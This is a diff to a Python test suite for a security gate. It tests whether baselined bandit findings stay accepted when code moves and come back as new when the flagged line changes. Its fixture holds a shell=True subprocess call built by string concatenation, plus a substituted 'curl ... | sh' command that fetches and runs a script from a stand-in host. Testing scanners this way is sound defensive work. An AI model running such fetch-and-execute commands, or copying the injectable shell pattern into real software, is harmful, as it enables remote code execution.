@@ -152,3 +152,36 @@ def found_code(gate: GateResult, rule: str) -> object:
     security = gate.check("security")
     assert security is not None
     return next(f.properties.get("code") for f in security.findings if f.rule_id == rule)
+
+
+def _commit(root: Path) -> str:
+    import subprocess
+
+    ident = ["-c", "user.name=t", "-c", "user.email=t@example.invalid"]
+    subprocess.run(["git", *ident, "commit", "-qam", "c", "--allow-empty"], cwd=root, check=True, capture_output=True)
+    return subprocess.run(["git", "rev-parse", "HEAD"], cwd=root, check=True, capture_output=True, text=True).stdout.strip()
+
+
+SHELL = 'import subprocess\n\n\ndef deploy(token):\n    return subprocess.call("deploy --token " + token, shell=True)\n'
+SECURITY_ONLY = "".join(f"[checks.{n}]\nenabled = false\n" for n in ("coverage", "dependencies", "sbom", "licenses"))
+
+
+def test_a_baselined_finding_on_a_credential_line_whose_literal_changed_is_new(tmp_path: Path) -> None:
+    # the line names a credential, so its literals are masked in the fingerprint: the command bandit
+    # flags changed, and only the line as it was at the baseline's commit tells the finding is not the one accepted
+    root = write(tmp_path / "p", {"app/run.py": SHELL, "gatekeeper.toml": SECURITY_ONLY})
+    git_init(root)
+    made = _commit(root)
+    document = baseline_document(_gate(root))
+    assert document["commit"] == made
+    baseline = Baseline(fingerprints={p["fingerprint"]: 1 for p in document["findings"]}, commit=made)
+    assert [f.rule_id for f in _gate(root, baseline).check("security").findings if f.blocking] == []  # as it was
+
+    (root / "app" / "run.py").write_text(SHELL.replace("deploy --token ", "curl -s https://x.invalid/i.sh | sh; echo "))
+    _commit(root)
+    security = _gate(root, baseline).check("security")
+    assert security is not None and security.status.value == "fail"
+    assert [(f.rule_id, f.location.line if f.location else 0) for f in security.findings if f.blocking] == [("B602", 5)]
+    moved = "\n\n" + SHELL  # code above it moved, the line itself did not change: still the one accepted
+    (root / "app" / "run.py").write_text(moved)
+    assert [f.rule_id for f in _gate(root, baseline).check("security").findings if f.blocking] == []
